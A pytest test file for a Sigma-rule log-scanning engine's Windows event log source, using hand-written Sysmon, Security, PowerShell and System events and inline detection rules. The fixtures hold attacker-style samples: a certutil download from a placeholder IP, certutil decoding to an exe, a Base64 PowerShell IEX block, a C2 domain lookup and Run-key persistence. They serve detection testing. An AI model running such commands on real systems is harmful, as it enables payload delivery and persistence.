"""The winevt source: Windows event logs exported from .evtx as JSON lines (evtx_dump's and
python-evtx's XML through xmltodict), with Sigma logsources from pySigma's pipelines.

Events here are small hand-written records of both shapes; rules are written inline. The
engine's alerts must equal the reference evaluator's with the prefilter on and off.
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest
import yaml

from conftest import make_archive
from retrohunt import parse as parse_module
from retrohunt.archive import Chunk
from retrohunt.cli import main
from retrohunt.compiler import Plan, compile_rules
from retrohunt.compiler.plan import subset_plan
from retrohunt.parse import parse_chunk
from retrohunt.prefilter import build_prefilter
from retrohunt.reference import ReferenceAlert, field_value, reference_scan, sourced_events
from retrohunt.scan import ScanOptions, scan
from retrohunt.sources import SOURCES, normalise, raw_schema, select_sources
from retrohunt.sources.pipelines import audit_mapping, windows_event_types
from retrohunt.sources.taxonomy import ADMITTED, CATEGORY, EVENT_TYPE, SERVICE, SOURCE

ALL_SOURCES = list(SOURCES.values())
WINEVT = SOURCES["winevt"]
SYSMON = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
NAMESPACE = "http://schemas.microsoft.com/win/2004/08/events/event"
PROVIDERS = {
    SYSMON: "Microsoft-Windows-Sysmon",
    "Security": "Microsoft-Windows-Security-Auditing",
    POWERSHELL: "Microsoft-Windows-PowerShell",
    "System": "Service Control Manager",
    "Application": "Application Error",
}
CERTUTIL = "C:\\Windows\\System32\\certutil.exe"
RUN_KEY = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater"


def evtx_dump(
    channel: str,
    event_id: int,
    data: dict[str, Any] | None,
    *,
    qualifiers: int | None = None,
    computer: str = "ws-01.corp.example",
    time: str = "2019-03-19T23:34:13.263929Z",
) -> dict[str, Any]:
    """A record as evtx_dump writes it (typed values; EventID an object with qualifiers)."""
    eid: Any = event_id
    if qualifiers is not None:
        eid = {"#attributes": {"Qualifiers": qualifiers}, "#text": event_id}
    return {
        "Event": {
            "#attributes": {"xmlns": NAMESPACE},
            "System": {
                "Provider": {"#attributes": {"Name": PROVIDERS[channel], "Guid": "{5770385f}"}},
                "EventID": eid,
                "Version": 5,
                "Level": 4,
                "Task": 1,
                "Opcode": 0,
                "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": time}},
                "EventRecordID": 1042,
                "Correlation": None,
                "Execution": {"#attributes": {"ProcessID": 3120, "ThreadID": 4012}},
                "Channel": channel,
                "Computer": computer,
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": data,
        }
    }


def xmltodict(
    channel: str,
    event_id: int,
    data: dict[str, Any] | None,
    *,
    computer: str = "ws-02.corp.example",
    time: str = "2019-03-19 23:34:13.263929",
) -> dict[str, Any]:
    """A record as xmltodict turns python-evtx's XML into JSON: attributes as @keys, the
    event data a list of Data elements (one element alone when there is one; a value of
    None is an element without text)."""
    elements = [
        {"@Name": name} if value is None else {"@Name": name, "#text": str(value)}
        for name, value in (data or {}).items()
    ]
    event_data: Any = None
    if elements:
        event_data = {"Data": elements if len(elements) > 1 else elements[0]}
    return {
        "Event": {
            "@xmlns": NAMESPACE,
            "System": {
                "Provider": {"@Name": PROVIDERS[channel], "@Guid": "{5770385f}"},
                "EventID": {"@Qualifiers": "", "#text": str(event_id)},
                "Version": "5",
                "Level": "4",
                "TimeCreated": {"@SystemTime": time},
                "EventRecordID": "1042",
                "Channel": channel,
                "Computer": computer,
                "Security": {"@UserID": "S-1-5-18"},
            },
            "EventData": event_data,
        }
    }


SHAPES = [evtx_dump, xmltodict]

# Event data by (channel, event id): what the records of both shapes carry.
PROCESS = {
    "RuleName": "-",
    "UtcTime": "2019-03-19 23:34:13.263",
    "ProcessId": 6012,
    "Image": CERTUTIL,
    "OriginalFileName": "CertUtil.exe",
    "CommandLine": 'certutil -urlcache -f "http://203.0.113.9/a b.txt" C:\\Temp\\',
    "User": "CORP\\alice",
    "ParentImage": "C:\\Windows\\explorer.exe",
    "Hashes": "SHA256=0F1E2D",
}
NETWORK = {
    "RuleName": "-",
    "Image": CERTUTIL,
    "CommandLine": PROCESS["CommandLine"],
    "Initiated": True,
    "DestinationIp": "203.0.113.9",
    "DestinationPort": 4444,
    "OriginalFileName": "CertUtil.exe",
}
FILE = {"Image": CERTUTIL, "TargetFilename": "C:\\Users\\alice\\AppData\\Local\\Temp\\a.ps1"}
REGISTRY_ADD = {"EventType": "CreateKey", "Image": CERTUTIL, "TargetObject": RUN_KEY}
REGISTRY_SET = {"EventType": "SetValue", "Image": CERTUTIL, "TargetObject": RUN_KEY, "Details": "x"}
REGISTRY_RENAME = {"EventType": "RenameKey", "TargetObject": RUN_KEY, "NewName": RUN_KEY + "2"}
DNS = {"Image": CERTUTIL, "QueryName": "c2.evil.example", "QueryStatus": "0"}
PROCESS_4688 = {
    "SubjectLogonId": "0x3e7",
    "NewProcessId": "0x1a2b",
    "NewProcessName": CERTUTIL,
    "CommandLine": "certutil -decode a.b64 a.exe",
    "ParentProcessName": "C:\\Windows\\explorer.exe",
    "TokenElevationType": "%%1936",
}
SCRIPT = {
    "MessageNumber": 1,
    "MessageTotal": 1,
    "ScriptBlockText": "IEX ([Text.Encoding]::UTF8.GetString(\n"
    '[Convert]::FromBase64String("SQBFAFgA")))',
    "ScriptBlockId": "c0ffee",
    "Path": None,
}
SERVICE_7045 = {
    "ServiceName": "updsvc",
    "ImagePath": "C:\\Windows\\Temp\\upd.exe",
    "ServiceType": "user mode service",
    "StartType": "auto start",
    "AccountName": "LocalSystem",
}

EVENTS: list[tuple[str, int, dict[str, Any]]] = [
    (SYSMON, 1, PROCESS),
    (SYSMON, 3, NETWORK),
    (SYSMON, 11, FILE),
    (SYSMON, 12, REGISTRY_ADD),
    (SYSMON, 13, REGISTRY_SET),
    (SYSMON, 14, REGISTRY_RENAME),
    (SYSMON, 22, DNS),
    ("Security", 4688, PROCESS_4688),
    (POWERSHELL, 4104, SCRIPT),
    ("System", 7045, SERVICE_7045),
]

RULES: dict[str, tuple[dict[str, str], dict[str, Any]]] = {
    "Certutil": (
        {"category": "process_creation", "product": "windows"},
        {"sel": {"Image|endswith": "\\certutil.exe"}, "condition": "sel"},
    ),
    "ExplorerChild": (
        {"category": "process_creation", "product": "windows"},
        {"sel": {"ParentImage|endswith": "\\explorer.exe"}, "condition": "sel"},
    ),
    "RenamedCertutil": (  # a field outside the taxonomy, read from EventData
        {"category": "process_creation", "product": "windows"},
        {"sel": {"OriginalFileName": "certutil.exe"}, "condition": "sel"},
    ),
    "PoolPort": (
        {"category": "network_connection", "product": "windows"},
        {"sel": {"DestinationPort": 4444, "Initiated": "true"}, "condition": "sel"},
    ),
    "TempDrop": (
        {"category": "file_event", "product": "windows"},
        {"sel": {"TargetFilename|contains": "\\Temp\\"}, "condition": "sel"},
    ),
    "RunKey": (
        {"category": "registry_event", "product": "windows"},
        {"sel": {"TargetObject|contains": "\\CurrentVersion\\Run"}, "condition": "sel"},
    ),
    "RunKeySet": (
        {"category": "registry_set", "product": "windows"},
        {"sel": {"TargetObject|contains": "\\CurrentVersion\\Run"}, "condition": "sel"},
    ),
    "RunKeyAdd": (
        {"category": "registry_add", "product": "windows"},
        {"sel": {"EventType": "CreateKey"}, "condition": "sel"},
    ),
    "AnyRegistry": (  # no text demanded: the prefilter falls back to the event types
        {"category": "registry_event", "product": "windows"},
        {"sel": {"TargetObject|exists": True}, "condition": "sel"},
    ),
    "EvilDns": (
        {"category": "dns_query", "product": "windows"},
        {"sel": {"QueryName|endswith": ".evil.example"}, "condition": "sel"},
    ),
    "FromBase64": (
        {"category": "ps_script", "product": "windows"},
        {"sel": {"ScriptBlockText|contains": "FromBase64String"}, "condition": "sel"},
    ),
    "TempService": (
        {"product": "windows", "service": "system"},
        {
            "sel": {"Provider_Name": "Service Control Manager", "EventID": 7045},
            "path": {"ImagePath|contains": "\\Temp\\"},
            "condition": "sel and path",
        },
    ),
    "ServiceName": (
        {"product": "windows", "service": "system"},
        {"sel": {"ServiceName": "updsvc"}, "condition": "sel"},
    ),
    "SecurityProcess": (
        {"product": "windows", "service": "security"},
        {"sel": {"EventID": 4688, "Channel": "Security"}, "condition": "sel"},
    ),
    "SysmonAnything": (
        {"product": "windows", "service": "sysmon"},
        {"sel": {"EventID": [3, 22]}, "condition": "sel"},
    ),
}

# Which rules each event (in EVENTS order) alerts on, in both shapes.
EXPECTED: list[set[str]] = [
    {"Certutil", "ExplorerChild", "RenamedCertutil"},  # Sysmon 1
    {"PoolPort", "SysmonAnything"},  # Sysmon 3: same Image, never a process creation
    {"TempDrop"},  # 11
    {"RunKey", "RunKeyAdd", "AnyRegistry"},  # 12
    {"RunKey", "RunKeySet", "AnyRegistry"},  # 13
    {"RunKey", "AnyRegistry"},  # 14
    {"EvilDns", "SysmonAnything"},  # 22
    {"Certutil", "ExplorerChild", "SecurityProcess"},  # 4688 (NewProcessName …)
    {"FromBase64"},  # 4104
    {"TempService", "ServiceName"},  # 7045
]


def plan_of(folder: Path, rules: dict[str, tuple[dict[str, str], dict[str, Any]]]) -> Plan:
    folder.mkdir(parents=True, exist_ok=True)
    for number, (name, (logsource, detection)) in enumerate(rules.items()):
        rule = {
            "title": name,
            "name": name,
            "id": f"00000000-0000-4000-8000-{number:012d}",
            "level": "high",
            "logsource": logsource,
            "detection": detection,
        }
        (folder / f"{name}.yml").write_text(yaml.safe_dump(rule), "utf-8")
    plan = compile_rules([folder])
    assert not plan.refused, plan.refused
    return plan


def encode(record: dict[str, Any]) -> bytes:
    return json.dumps(record, separators=(",", ":")).encode()


def scanned(tmp_path: Path, archives: list[list[bytes]], plan: Plan, **options: Any) -> set[Any]:
    """Every alert of one scan of `archives` as reference tuples, prefilter on and off (the
    same both ways)."""
    paths = []
    for number, lines in enumerate(archives):
        paths.append(make_archive(tmp_path / "in", lines, "zstd", name=f"a{number}.jsonl.zst"))
    found = []
    for prefilter in (True, False):
        result = scan(
            ScanOptions(
                tuple(paths),
                out=tmp_path / f"out-{prefilter}",
                prefilter=prefilter,
                chunk_size=4096,
                **options,
            ),
            plan=plan,
        )
        assert not result.failed
        index = {str(path): number for number, path in enumerate(paths)}
        found.append(
            {
                ReferenceAlert(
                    index[r["archive"]],
                    r["line_number"],
                    r["record_index"],
                    r["rule_name"],
                    r["process_context"],
                )
                for r in result.alerts.iter_rows(named=True)
            }
        )
    assert found[0] == found[1], "prefilter on and off differ"
    return found[0]


@pytest.fixture(scope="module")
def plan(tmp_path_factory: pytest.TempPathFactory) -> Plan:
    return plan_of(tmp_path_factory.mktemp("rules"), RULES)


# --- logsources from pySigma's pipelines ----------------------------------------------------


def test_the_pipelines_map_sysmon_security_and_powershell_events_to_categories() -> None:
    types = windows_event_types()
    sysmon = {
        1: "process_creation",
        3: "network_connection",
        5: "process_termination",
        6: "driver_load",
        7: "image_load",
        8: "create_remote_thread",
        10: "process_access",
        11: "file_event",
        12: "registry_add",
        13: "registry_set",
        14: "registry_rename",
        15: "create_stream_hash",
        17: "pipe_created",
        18: "pipe_created",
        22: "dns_query",
        23: "file_delete",
        25: "process_tampering",
        26: "file_delete_detected",
    }
    for event_id, category in sysmon.items():
        assert f"{SYSMON}:{event_id}" in WINEVT.types_of(category), (event_id, category)
    assert set(WINEVT.types_of("registry_event")) == {f"{SYSMON}:{i}" for i in (12, 13, 14)}
    assert WINEVT.types_of("registry_delete") == (f"{SYSMON}:12",)
    assert "Security:4688" in types["process_creation"]
    assert f"{POWERSHELL}:4104" in types["ps_script"]
    assert f"{POWERSHELL}:4103" in types["ps_module"]
    assert "Windows PowerShell:400" in types["ps_classic_start"]
    # The audit pipeline's own field mapping for Security events, taken from the pipeline.
    security = audit_mapping().fields["security"]
    assert security["Image"] == ("NewProcessName",)
    assert security["ParentImage"] == ("ParentProcessName",)
    # An event shows its most specific category; 12 is add and delete alike.
    assert WINEVT.categories[f"{SYSMON}:13"] == "registry_set"
    assert WINEVT.categories[f"{SYSMON}:12"] == "registry_event"
    assert WINEVT.categories["Security:4688"] == "process_creation"


# --- reading both shapes -----------------------------------------------------------------------


@pytest.mark.parametrize("eager", [False, True], ids=["lazy", "eager"])
@pytest.mark.parametrize("shape", SHAPES, ids=lambda s: s.__name__)
def test_both_shapes_read_the_same_fields_in_engine_and_reference(shape: Any, eager: bool) -> None:
    lines = [encode(shape(channel, eid, data)) for channel, eid, data in EVENTS]
    lines.append(encode(shape("System", 7040, {"param1": "x"})))  # one Data element alone
    lines.append(encode(shape("Application", 1000, None)))  # no event data at all
    fields = [
        "Image",
        "CommandLine",
        "ParentImage",
        "OriginalFileName",
        "EventID",
        "Channel",
        "Computer",
        "Provider_Name",
        "TargetObject",
        "ScriptBlockText",
        "ServiceName",
        "ImagePath",
        "Path",
        "param1",
        "DestinationPort",
        "Initiated",
        "Level",
    ]
    schema = raw_schema(ALL_SOURCES, fields)
    parsed = parse_chunk(Chunk(b"\n".join(lines) + b"\n", 1, 0), schema)
    assert not parsed.bad
    # Normalising a DataFrame leaves out the name/value lists no row holds (evtx_dump's).
    frame = parsed.frame if eager else parsed.frame.lazy()
    events = normalise(frame, ALL_SOURCES, fields).collect()
    assert events[SOURCE].to_list() == ["winevt"] * len(lines)
    for row, line in zip(events.iter_rows(named=True), lines, strict=True):
        (sourced,) = sourced_events(line, ALL_SOURCES, schema)
        assert sourced.source is WINEVT
        assert row[EVENT_TYPE] == sourced.event_type
        assert tuple(row[ADMITTED] or ()) == sourced.categories
        for name in fields:
            assert row[name] == field_value(sourced.event, WINEVT, name), (line[:60], name)
    first = events.row(0, named=True)
    assert first["Image"] == CERTUTIL
    assert first["CommandLine"] == PROCESS["CommandLine"]  # quotes and a final backslash
    assert first["EventID"] == "1"
    assert first["Provider_Name"] == "Microsoft-Windows-Sysmon"
    assert first[EVENT_TYPE] == f"{SYSMON}:1"
    assert first[SERVICE] == "sysmon"
    security = events.row(7, named=True)
    assert (security["Image"], security["ParentImage"]) == (CERTUTIL, "C:\\Windows\\explorer.exe")
    assert security[CATEGORY] == "process_creation" and security[SERVICE] == "security"
    service = events.row(9, named=True)
    assert (service["EventID"], service["ServiceName"]) == ("7045", "updsvc")
    assert service[EVENT_TYPE] == "System:7045" and service[SERVICE] == "system"
    assert events.row(10, named=True)["param1"] == "x"
    assert events.row(8, named=True)["Path"] is None  # an element without text


@pytest.mark.parametrize("shape", SHAPES, ids=lambda s: s.__name__)
def test_natives_of_keys_no_line_has_normalise_to_what_reading_them_gives(
    shape: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # parse leaves the keys no line has out of the read (ParsedChunk.absent) and normalise
    # then does not read the natives they make null: the events must be the same. The
    # last lines spell nested natives as flattened keys ("winlog.event_data.Image"), whose
    # path keys ("winlog") no line has.
    monkeypatch.setattr(parse_module, "_KEYS_WORTH_LOOKING_FOR", 1)
    lines = [encode(shape(channel, eid, data)) for channel, eid, data in EVENTS]
    lines.append(
        b'{"winlog.channel": "Microsoft-Windows-Sysmon/Operational", "winlog.event_id": 1,'
        b' "winlog.event_data.Image": "C:\\\\x.exe", "event_simpleName": null}'
    )
    lines.append(b'{"event_simpleName": "ProcessRollup2", "ImageFileName": "\\\\x.exe"}')
    fields = ["Image", "CommandLine", "TargetObject", "param1", "EventID", "DestinationPort"]
    parsed = parse_chunk(Chunk(b"\n".join(lines) + b"\n", 1, 0), raw_schema(ALL_SOURCES, fields))
    assert not parsed.bad
    assert {"winlog", "Records", "Event.EventData.Image"} <= parsed.absent

    pruned = normalise(parsed.frame, ALL_SOURCES, fields, absent=parsed.absent).collect()

    assert pruned.equals(normalise(parsed.frame, ALL_SOURCES, fields).collect())
    assert pruned.row(-2, named=True)["Image"] == "C:\\x.exe"


def test_a_batch_of_both_shapes_reads_the_lists_of_the_lines_that_have_them() -> None:
    fields = ["Image", "CommandLine", "TargetObject", "param1"]
    lines = [encode(evtx_dump(channel, eid, data)) for channel, eid, data in EVENTS]
    lines.append(encode(xmltodict(*EVENTS[0])))
    parsed = parse_chunk(Chunk(b"\n".join(lines) + b"\n", 1, 0), raw_schema(ALL_SOURCES, fields))
    eager = normalise(parsed.frame, ALL_SOURCES, fields).collect()
    assert eager.equals(normalise(parsed.frame.lazy(), ALL_SOURCES, fields).collect())
    assert eager.row(-1, named=True)["Image"] == CERTUTIL


def test_system_event_ids_with_qualifiers_read_as_their_number() -> None:
    record = evtx_dump("System", 7045, SERVICE_7045, qualifiers=16384)
    (sourced,) = sourced_events(encode(record), ALL_SOURCES, {})
    assert sourced.event_type == "System:7045"
    assert field_value(sourced.event, WINEVT, "EventID") == "7045"


def test_newlines_in_xmltodict_values_read_as_polars_renders_them() -> None:
    """A documented difference between the shapes: an xmltodict element's newline reads as
    the two characters backslash and n (evtx_dump's reads as a newline)."""
    text = SCRIPT["ScriptBlockText"]
    (xml,) = sourced_events(encode(xmltodict(POWERSHELL, 4104, SCRIPT)), ALL_SOURCES, {})
    (dump,) = sourced_events(encode(evtx_dump(POWERSHELL, 4104, SCRIPT)), ALL_SOURCES, {})
    assert field_value(dump.event, WINEVT, "ScriptBlockText") == text
    assert field_value(xml.event, WINEVT, "ScriptBlockText") == text.replace("\n", "\\n")


TRICKY = {
    "Image": "C:\\Temp\\",  # ends with a backslash, as the rendering's closing quote does
    "CommandLine": 'a "}, {"@Name": "Image", "#text": "evil"} b',  # an element inside a value
    "Description": 'tab\there, ünïcode, \\n literal, quote\\"',
    "Product": "",  # empty: a value, not a missing one
}


@pytest.mark.parametrize("shape", SHAPES, ids=lambda s: s.__name__)
def test_values_that_look_like_the_rendering_read_as_written(tmp_path: Path, shape: Any) -> None:
    line = encode(shape(SYSMON, 1, TRICKY))
    (sourced,) = sourced_events(line, ALL_SOURCES, {})
    for name, value in TRICKY.items():
        assert field_value(sourced.event, WINEVT, name) == value, name
    rules = {
        "Backslash": (
            {"category": "process_creation"},
            {"sel": {"Image": "C:\\Temp\\"}, "condition": "sel"},
        ),
        "Inner": (
            {"category": "process_creation"},
            {"sel": {"CommandLine|contains": '"}, {"@Name": "Image"'}, "condition": "sel"},
        ),
        "Quote": (
            {"category": "process_creation"},
            {"sel": {"Description|endswith": 'quote\\"'}, "condition": "sel"},
        ),
        "Empty": ({"category": "process_creation"}, {"sel": {"Product": ""}, "condition": "sel"}),
        "Evil": ({"category": "process_creation"}, {"sel": {"Image": "evil"}, "condition": "sel"}),
    }
    plan = plan_of(tmp_path / "rules", rules)
    expected = {ReferenceAlert(0, 1, None, name, "event") for name in rules if name != "Evil"}
    assert reference_scan([[line]], plan, ALL_SOURCES) == expected
    assert scanned(tmp_path, [[line]], plan) == expected


# --- logsource honoured ------------------------------------------------------------------------


@pytest.mark.parametrize("shape", SHAPES, ids=lambda s: s.__name__)
def test_rules_fire_on_the_event_types_of_their_category(
    tmp_path: Path, plan: Plan, shape: Any
) -> None:
    lines = [encode(shape(channel, eid, data)) for channel, eid, data in EVENTS]
    expected = {
        ReferenceAlert(0, number, None, rule, "event")
        for number, rules in enumerate(EXPECTED, start=1)
        for rule in rules
    }
    assert reference_scan([lines], plan, ALL_SOURCES) == expected
    assert scanned(tmp_path, [lines], plan) == expected


def test_a_process_creation_rule_never_fires_on_network_or_dns_events(
    tmp_path: Path, plan: Plan
) -> None:
    # Every field a process_creation rule could test, on network and DNS events.
    lines = [
        encode(shape(SYSMON, eid, {**PROCESS, **data}))
        for shape in SHAPES
        for eid, data in ((3, NETWORK), (22, DNS))
    ]
    process_rules = {"Certutil", "ExplorerChild", "RenamedCertutil"}
    for alerts in (reference_scan([lines], plan, ALL_SOURCES), scanned(tmp_path, [lines], plan)):
        assert {a.rule for a in alerts} & process_rules == set()
        assert {a.rule for a in alerts} == {"PoolPort", "EvilDns", "SysmonAnything"}


def test_security_fields_are_mapped_only_on_security_events(tmp_path: Path, plan: Plan) -> None:
    # NewProcessName means nothing on a Sysmon event; Image means nothing on Security's.
    lines = [
        encode(evtx_dump(SYSMON, 1, {"NewProcessName": CERTUTIL})),
        encode(evtx_dump("Security", 4688, {"Image": CERTUTIL})),
    ]
    alerts = reference_scan([lines], plan, ALL_SOURCES)
    assert {a.rule for a in alerts} == {"SecurityProcess"}
    assert scanned(tmp_path, [lines], plan) == alerts


# --- engine = reference, prefilter on and off -------------------------------------------------


def spellings(record: dict[str, Any]) -> list[bytes]:
    """The record in JSON spellings that read the same: spaces, escaped slashes, \\u
    escapes, the event id as a string, a number with a point or an object."""
    plain = json.dumps(record)
    compact = encode(record).decode()
    system = record["Event"]["System"]
    eid = system["EventID"]
    out = [plain.encode(), compact.encode(), compact.replace("/", "\\/").encode()]
    out.append(json.dumps(record, ensure_ascii=True).replace("Image", "\\u0049mage").encode())
    if isinstance(eid, int):
        for spelled in (f'"{eid}"', f"{eid}.0", f"{eid * 10}e-1", f'{{"#text":{eid}}}'):
            out.append(compact.replace(f'"EventID":{eid},', f'"EventID":{spelled},').encode())
    return out


def test_engine_alerts_equal_the_reference_on_every_spelling(tmp_path: Path, plan: Plan) -> None:
    lines: list[bytes] = []
    for channel, eid, data in EVENTS:
        lines.extend(spellings(evtx_dump(channel, eid, data)))
        lines.extend(spellings(xmltodict(channel, eid, data)))
    # Near misses: another channel's event id 1, and Sysmon lines of other sources' shape.
    lines.append(encode(evtx_dump(POWERSHELL, 1, PROCESS)))
    lines.append(encode({"Channel": SYSMON, "EventID": 13, **REGISTRY_SET}))
    lines.append(encode({"winlog": {"channel": SYSMON, "event_id": 11, "event_data": FILE}}))
    lines.append(b'{"Event": "not an object"}')
    half = len(lines) // 2
    archives = [lines[:half], lines[half:]]
    expected = reference_scan(archives, plan, ALL_SOURCES)
    assert len(expected) > 100
    assert scanned(tmp_path, archives, plan) == expected
    # Flat and Winlogbeat Sysmon read fields they do not map too, and admit registry_set
    # and file_event by the Sysmon pipeline's event ids.
    rules = {a.rule for a in expected if (a.archive, a.line) == (1, len(archives[1]) - 2)}
    assert rules == {"RunKey", "RunKeySet", "AnyRegistry"}
    rules = {a.rule for a in expected if (a.archive, a.line) == (1, len(archives[1]) - 1)}
    assert rules == {"TempDrop"}


def test_forced_source_reads_every_line_as_winevt(tmp_path: Path, plan: Plan) -> None:
    lines = [encode(shape(channel, eid, data)) for shape in SHAPES for channel, eid, data in EVENTS]
    expected = reference_scan([lines], plan, select_sources("winevt"))
    assert expected == reference_scan([lines], plan, ALL_SOURCES)
    assert scanned(tmp_path, [lines], plan, source="winevt") == expected


# --- the prefilter's event types ----------------------------------------------------------------


def test_a_rule_without_text_keeps_exactly_the_lines_of_its_event_types(plan: Plan) -> None:
    prefilter = build_prefilter(plan, ALL_SOURCES)
    modes = {f.rule: f.mode for f in prefilter.rules}
    assert modes["AnyRegistry"] == "event types"
    alone = [i for i, rule in enumerate(plan.rules) if rule.name == "AnyRegistry"]
    only = build_prefilter(subset_plan(plan, alone), ALL_SOURCES)
    assert not only.every_line
    registry = [
        line
        for shape in SHAPES
        for eid, data in ((12, REGISTRY_ADD), (13, REGISTRY_SET), (14, REGISTRY_RENAME))
        for line in spellings(shape(SYSMON, eid, data))
    ]
    others = [
        encode(shape(channel, eid, data))
        for shape in SHAPES
        for channel, eid, data in EVENTS
        if eid not in (12, 13, 14)
    ]
    others.append(encode(evtx_dump(POWERSHELL, 13, REGISTRY_SET)))  # 13 of another channel
    lines = others + registry
    found = only.scan(Chunk(b"\n".join(lines) + b"\n", 1, 0))
    kept = {int(n) for n in found.candidates.line_numbers}
    # Every registry line whatever its spelling (\u escapes are always candidates) …
    assert kept >= set(range(len(others) + 1, len(lines) + 1))
    # … and none of the other event types.
    assert kept.isdisjoint(range(1, len(others) + 1))


# --- alerts and the CLI ---------------------------------------------------------------------------


def test_alerts_take_time_and_host_from_the_system_element(tmp_path: Path, plan: Plan) -> None:
    lines = [
        encode(evtx_dump(SYSMON, 22, DNS, time="2021-06-01T10:00:00.5Z", computer="dc1")),
        encode(xmltodict(SYSMON, 22, DNS, time="2021-06-01 10:00:01.25", computer="dc2")),
    ]
    archive = make_archive(tmp_path, lines)
    result = scan(ScanOptions((archive,), out=tmp_path / "out"), plan=plan)
    rows = result.alerts.filter(pl.col("rule_name") == "EvilDns").sort("line_number")
    assert rows["host"].to_list() == ["dc1", "dc2"]
    assert rows["event_time"].to_list() == [
        dt.datetime(2021, 6, 1, 10, 0, 0, 500000, tzinfo=dt.UTC),
        dt.datetime(2021, 6, 1, 10, 0, 1, 250000, tzinfo=dt.UTC),
    ]
    assert rows["source"].to_list() == ["winevt", "winevt"]
    assert rows["event_type"].to_list() == [f"{SYSMON}:22"] * 2
    assert rows["category"].to_list() == ["dns_query"] * 2
    assert rows["image"].to_list() == [CERTUTIL] * 2
    assert rows["domain"].to_list() == ["c2.evil.example"] * 2


def test_scan_cli_recognises_winevt_lines_with_source_auto(
    tmp_path: Path, plan: Plan, capsys: pytest.CaptureFixture[str]
) -> None:
    rules = tmp_path / "rules"
    plan_of(rules, {name: RULES[name] for name in ("Certutil", "TempService")})
    lines = [
        encode(evtx_dump(SYSMON, 1, PROCESS)),
        encode(xmltodict("System", 7045, SERVICE_7045)),
        encode(evtx_dump(SYSMON, 3, NETWORK)),
    ]
    archive = make_archive(tmp_path / "in", lines, "zstd")
    found = {}
    for source in (None, "auto", "winevt"):
        out = tmp_path / f"out-{source}"
        argv = ["scan", str(archive), "--rules", str(rules), "--out", str(out), "--json"]
        code = main([*argv, "--source", source] if source else argv)
        document = json.loads(capsys.readouterr().out)
        assert code == 0
        found[source] = {name: n for name, n in document["totals"]["alerts_by_rule"].items() if n}
    assert found[None] == found["auto"] == found["winevt"] == {"Certutil": 1, "TempService": 1}
    code = main(["scan", str(archive), "--rules", str(rules), "--source", "evtx"])
    assert code != 0
    assert "--source" in capsys.readouterr().err


def test_sources_cli_lists_winevt(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["sources"]) == 0
    shown = capsys.readouterr().out
    assert "winevt" in shown
    assert "Event.EventData.<field>" in shown
    assert "NewProcessName" in shown


def test_sysmon_lines_spelled_with_a_long_s_stay_candidates(tmp_path: Path) -> None:
    """Polars and Python find "(?i)sysmon" in "ſysmon": so does the prefilter's demand."""
    plan = plan_of(tmp_path / "rules", {"AnyRegistry": RULES["AnyRegistry"]})
    channel = "Microsoft-Windows-\u017fysmon/Operational"
    line = json.dumps({"Channel": channel, "EventID": 12, **REGISTRY_ADD}, ensure_ascii=False)
    lines = [line.encode(), encode({"Channel": "Other", "EventID": 12, **REGISTRY_ADD})]
    (sourced,) = sourced_events(lines[0], ALL_SOURCES, {})
    assert sourced.source is SOURCES["sysmon"]
    expected = reference_scan([lines], plan, ALL_SOURCES)
    assert expected == {ReferenceAlert(0, 1, None, "AnyRegistry", "event")}
    assert scanned(tmp_path, [lines], plan) == expected
    found = build_prefilter(plan, ALL_SOURCES).scan(Chunk(b"\n".join(lines) + b"\n", 1, 0))
    assert [int(n) for n in found.candidates.line_numbers] == [1]
